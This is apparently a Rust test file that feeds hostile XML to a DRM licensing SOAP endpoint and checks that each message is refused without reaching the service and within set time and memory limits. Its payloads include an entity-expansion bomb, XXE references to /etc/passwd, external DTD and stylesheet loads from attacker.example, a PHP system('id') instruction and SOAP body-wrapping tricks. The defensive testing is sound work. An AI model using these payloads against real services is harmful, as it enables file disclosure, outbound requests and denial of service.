//! XML that is meant to do harm: each message has one right answer, the service never has the whole of a refused
//! one, and none costs more than its bytes are worth.

use crate::support::cluster::TestCluster;
use crate::support::http::{Answer, Request, Session};
use crate::support::processes;
use crate::support::soap::{ACQUIRE_LICENSE, ACQUIRE_PRE_LICENSE};
use std::time::Duration;

const SOAP: &str = "http://schemas.xmlsoap.org/soap/envelope/";
const LICENSING: &str = "http://microsoft.com/DRM/LicensingService";
/// A build for debugging takes many times as long, and what stands beside the reading counts too.
const PROCESSOR_TIME_MAX: Duration = Duration::from_millis(if cfg!(debug_assertions) { 150 } else { 5 });

/// An envelope of AcquireLicense, with something before it, in its header, in the operation, and behind the body.
fn message([prolog, header, content, behind]: [&str; 4]) -> String {
    format!(
        "{prolog}<s:Envelope xmlns:s=\"{SOAP}\"><s:Header>{header}</s:Header><s:Body><AcquireLicense \
         xmlns=\"{LICENSING}\">{content}</AcquireLicense></s:Body>{behind}</s:Envelope>"
    )
}

fn prolog(text: &str) -> Vec<u8> {
    message([text, "", "", ""]).into()
}

fn header(text: &str) -> Vec<u8> {
    message(["", text, "", ""]).into()
}

fn content(text: &str) -> Vec<u8> {
    message(["", "", text, ""]).into()
}

fn behind(text: &str) -> Vec<u8> {
    message(["", "", "", text]).into()
}

fn replaced(from: &str, to: &str) -> Vec<u8> {
    let good = message(["", "", "", ""]);
    assert!(good.contains(from), "{from}");
    good.replacen(from, to, 1).into()
}

fn wide(mark: &[u8], of: fn(u16) -> [u8; 2]) -> Vec<u8> {
    let text = message(["<?xml version='1.0' encoding='utf-16'?>", "", "", ""]);
    mark.iter().copied().chain(text.encode_utf16().flat_map(of)).collect()
}

/// Nested entities as text, which would be three gigabytes.
fn bomb() -> String {
    let entity = |level: u32| {
        format!("<!ENTITY l{level} \"{}\">", format!("&l{};", level.saturating_sub(1)).repeat(10))
    };
    format!("<!DOCTYPE b [<!ENTITY l0 \"lol\">{}]>", (1..10).map(entity).collect::<String>())
}

/// A header block of WS-Addressing that names an operation.
fn addressed(version: &str, operation: &str) -> String {
    format!(
        "<w:Action xmlns:w='http://www.w3.org/{version}/addressing'>{LICENSING}/<!-- -->{operation}</w:Action>"
    )
}

/// Each with what its answer says.
fn refused() -> Vec<(Vec<u8>, &'static str)> {
    let good = message(["", "", "", ""]);
    let body = "<s:Body><AcquirePreLicense xmlns='http://microsoft.com/DRM/LicensingService'/></s:Body>";
    let in_header = format!("<s:Envelope xmlns:s='{SOAP}'>{body}</s:Envelope>");
    let attributes = |count: usize| (0..count).map(|n| format!(" a{n}='x'")).collect::<String>();
    let namespaces = |count: usize| (0..count).map(|n| format!(" xmlns:n{n}='u:{n}'")).collect::<String>();
    vec![
        (prolog("<!DOCTYPE x>"), "DOCTYPE"),
        (prolog(&bomb()), "DOCTYPE"),
        (prolog("<!DOCTYPE x SYSTEM 'http://attacker.example/x.dtd'>"), "DOCTYPE"),
        (prolog("<!DOCTYPE x [<!ENTITY % p SYSTEM 'file:///etc/passwd'> %p;]>"), "DOCTYPE"),
        (header("<!DOCTYPE x>"), "DOCTYPE"),
        (content("<!DOCTYPE x [<!ENTITY e 'y'>]>"), "DOCTYPE"),
        (content("<!ENTITY e SYSTEM 'file:///etc/passwd'>"), "neither comment nor CDATA"),
        (header("<a>&lol;</a>"), "the entity \"lol\""),
        (header("<a b='&lol;'/>"), "the entity \"lol\""),
        (header("&#0;"), "a reference to no character"),
        (prolog("<?xml-stylesheet href='http://attacker.example/x.xsl'?>"), "xml-stylesheet"),
        (content("<?php system('id') ?>"), "php"),
        (header(&"<a>".repeat(100_000)), "more than 64 elements inside one another"),
        (content(&"<a>".repeat(100_000)), "more than 256 elements inside one another"),
        (header(&format!("<a{}/>", attributes(5_000))), "more than 64 attributes"),
        (header(&format!("<a{}><b{}/></a>", namespaces(40), namespaces(40))), "more than 64 namespaces"),
        (header(&format!("<{}/>", "a".repeat(10_000))), "a name longer than 256 bytes"),
        (header(&"x".repeat(100_000)), "does not begin within the first 65536 bytes"),
        (header(&format!("<!--{}-->", " ".repeat(100_000))), "does not begin within the first 65536 bytes"),
        (header("<!-- -- -->"), "\"--\" in a comment"),
        (header("<a b='1' b='2'/>"), "an attribute twice"),
        (header("<a b=1/>"), "an attribute value without quotes"),
        (header(&addressed("2005/08", "AcquirePreLicense")), "the request's action is"),
        (header(&addressed("ws/2004/08", "AcquirePreLicense")), "the request's action is"),
        (
            header("<w:Action xmlns:w='http://www.w3.org/2005/08/addressin&#103;'>x</w:Action>"),
            "the request's action is",
        ),
        (header("<p:a/>"), "a prefix that is not declared"),
        (header("<a xmlns:xml='u'/>"), "a reserved namespace is declared"),
        (header("<a></b>"), "an end tag of another element"),
        (replaced("</s:Header>", &format!("</s:Header>{body}")), "AcquirePreLicense"),
        (replaced("</s:Header>", "</s:Header><s:Header/>"), "\"Header\" in its Envelope"),
        (replaced("</s:Header>", "</s:Header><x/>"), "\"x\" in its Envelope"),
        (replaced("</s:Header>", "</s:Header>text"), "text in its Envelope"),
        (replaced("<AcquireLicense", "text<AcquireLicense"), "text in its Body"),
        (behind(body), "\"Body\" in its Envelope"),
        (behind("<s:Header/>"), "\"Header\" in its Envelope"),
        (replaced("</s:Body>", "<AcquirePreLicense/></s:Body>"), "\"AcquirePreLicense\" in its Body"),
        // What was signed is moved into the header, and another operation is put in its place.
        (
            replaced("</s:Header>", &format!("{in_header}</s:Header><s:Body/>")),
            "the Body of the message is empty",
        ),
        (replaced("<s:Body>", &format!("<s:Body><w>{in_header}</w>")), "\"w\" in namespace"),
        (replaced("<s:Body>", &format!("<s:Body>{in_header}")), "\"Envelope\" in namespace"),
        (replaced("AcquireLicense ", "AcquirePreLicense "), "the request's action is"),
        (replaced(LICENSING, "http://microsoft.com/DRM/PublishingService"), "is not an operation"),
        (replaced(LICENSING, ""), "is not an operation"),
        (replaced(LICENSING, "http://microsoft.com/DRM/Licensing&#83;ervice"), "is not an operation"),
        (replaced(SOAP, "http://www.w3.org/2003/05/soap-envelope"), "the other SOAP version"),
        (replaced(SOAP, "urn:soap"), "not a SOAP 1.1 or 1.2 envelope"),
        (replaced("</s:Envelope>", ""), "ends before"),
        (format!("{good}<s:Envelope/>").into(), "a second document element"),
        (prolog("<?xml version='1.0' encoding='iso-8859-1'?>"), "only UTF-8 is understood"),
        (prolog("<?xml version='1.0' encoding='utf-7'?>"), "only UTF-8 is understood"),
        (prolog("<?xml version='1.1'?>"), "another XML version"),
        (prolog(" <?xml version='1.0'?>"), "not at the beginning"),
        (wide(b"\xff\xfe", u16::to_le_bytes), "not UTF-8 at byte 0"),
        (wide(b"\xfe\xff", u16::to_be_bytes), "not UTF-8 at byte 0"),
        (wide(b"", u16::to_le_bytes), "a character that XML forbids"),
        ([b"\xef\xbb\xbf".repeat(2), good.clone().into()].concat(), "a character that XML forbids"),
        ([b"<!-- \xc0\xbc -->".to_vec(), good.clone().into()].concat(), "not UTF-8"),
        ([b"\x1f\x8b\x08\0".to_vec(), good.into()].concat(), "Bad request"),
    ]
}

/// Unusual, and what a parser of the service takes.
fn taken() -> Vec<Vec<u8>> {
    vec![
        prolog("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n"),
        prolog("\u{feff}<?xml version='1.0'?>"),
        prolog("<!-- <!DOCTYPE x> -->"),
        header("<a><![CDATA[</s:Header><s:Body>]]></a>"),
        content("<!-- </s:Body><s:Body> --><![CDATA[<!DOCTYPE x>]]>"),
        content("<a b='</AcquireLicense>' c=\"<\"/>".replace('<', "&lt;").as_str()),
        replaced("<AcquireLicense xmlns=", "<q:AcquireLicense xmlns:q=").into_iter().collect(),
        behind("<!-- the end -->\n"),
    ]
}

fn send(cluster: &TestCluster, body: Vec<u8>) -> Answer {
    let request = Request::soap_with_body(&ACQUIRE_LICENSE, body);
    cluster.call(&cluster.any_node(), &cluster.exchange(), &request)
}

#[test]
fn each_attack_has_its_answer_and_none_comes_to_the_service() {
    let cluster = TestCluster::shared();
    let attacks = refused();
    assert!(attacks.len() >= 30, "{}", attacks.len());
    for (body, words) in attacks {
        let shown: String = String::from_utf8_lossy(&body).chars().take(300).collect();
        let answer = send(&cluster, body);
        assert!(answer.status == 400 && answer.text().contains(words), "{words}: {answer:?} to {shown}");
        assert_eq!(cluster.arrived(&answer).times, 0, "{shown}");
    }
}

#[test]
fn what_is_only_unusual_is_sent_on() {
    let cluster = TestCluster::shared();
    for body in taken() {
        let mut body = body;
        if body.windows(2).any(|it| it == b"q:") {
            body =
                String::from_utf8(body).unwrap().replace("</AcquireLicense>", "</q:AcquireLicense>").into();
        }
        let shown = String::from_utf8_lossy(&body).into_owned();
        let answer = send(&cluster, body);
        assert_eq!(cluster.arrived(&answer).times, 1, "{answer:?} to {shown}");
    }
}

#[test]
fn an_action_for_more_than_the_role_allows_does_not_help() {
    let cluster = TestCluster::shared();
    let account = cluster.account("svc-sharepoint");
    // The body asks for what only Exchange may, the action for something else.
    for request in [
        Request::soap(&ACQUIRE_PRE_LICENSE).with("SOAPAction", &ACQUIRE_LICENSE.action()),
        Request::soap(&ACQUIRE_LICENSE).with("SOAPAction", &ACQUIRE_PRE_LICENSE.action()),
    ] {
        let answer = cluster.call(&cluster.any_node(), &account, &request);
        answer.check(400, &["the request's action is"]);
        assert_eq!(cluster.arrived(&answer).times, 0);
    }
}

/// What fills a quarter of a mebibyte with one thing.
fn fillings() -> Vec<(&'static str, Vec<u8>)> {
    let fill = |item: &str| item.repeat((256 << 10) / item.len());
    vec![
        ("text in the header", header(&fill("x"))),
        ("tags in the header", header(&fill("<a/>"))),
        ("attributes", header(&format!("<a{}/>", fill(" a='x'")))),
        ("references", header(&fill("&amp;"))),
        ("comments", header(&fill("<!---->"))),
        ("depth", content(&fill("<a>"))),
        ("tags", content(&fill("<a/>"))),
        ("quotes", content(&format!("<a b=\"{}\"/>", fill("'>")))),
        ("almost the end of a comment", content(&format!("<!--{}-->", fill("- >")))),
        ("almost the end of a section", content(&format!("<![CDATA[{}]]>", fill("]>")))),
        ("certificates", content(&format!("<RequestParams><P><LicenseeCerts>{}", fill("<Certificate/>")))),
        ("open tags", content(&fill("<"))),
    ]
}

#[test]
fn a_quarter_of_a_mebibyte_costs_5_ms_at_most_whatever_is_in_it() {
    let cluster = TestCluster::alone(1);
    cluster.await_rotation();
    let (node, account) = (cluster.any_node(), cluster.exchange());
    let mut session = Session::open(node.front(), &account).unwrap();
    let mut cost = |body: &[u8]| {
        let request = Request::soap_with_body(&ACQUIRE_LICENSE, body);
        let mut costs: Vec<Duration> = (0..5)
            .map(|_| {
                let before = processes::processor_time(node.running_pid());
                session.call(&request).unwrap();
                processes::processor_time(node.running_pid()).saturating_sub(before)
            })
            .collect();
        costs.sort();
        costs.swap_remove(2)
    };
    for (what, body) in fillings() {
        let cost = cost(&body);
        assert!(cost <= PROCESSOR_TIME_MAX, "{what}: {cost:?}");
    }
}

#[test]
fn an_attack_takes_no_more_memory_than_twice_its_body() {
    let cluster = TestCluster::alone(1);
    cluster.await_rotation();
    let node = cluster.any_node();
    send(&cluster, content(""));
    const BYTES: usize = 15 << 20;
    let bodies = [
        header(&"<a>".repeat(BYTES / 3)),
        content(&"<a>".repeat(BYTES / 3)),
        header(&format!("<a{}/>", " a='x'".repeat(BYTES / 6))),
        content(&format!("<a>{}</a>", "<b/>".repeat(BYTES / 4))),
        content(&format!("<!--{}-->", " ".repeat(BYTES))),
        prolog(&format!("<!DOCTYPE x [{}]>", "<!ENTITY e 'y'>".repeat(BYTES / 16))),
    ];
    let before = processes::resident_bytes(node.running_pid());
    for body in bodies {
        send(&cluster, body);
        let grown = processes::resident_bytes_max(node.running_pid()).saturating_sub(before);
        assert!(grown <= 2 * BYTES as u64, "{} KiB", grown >> 10);
    }
}
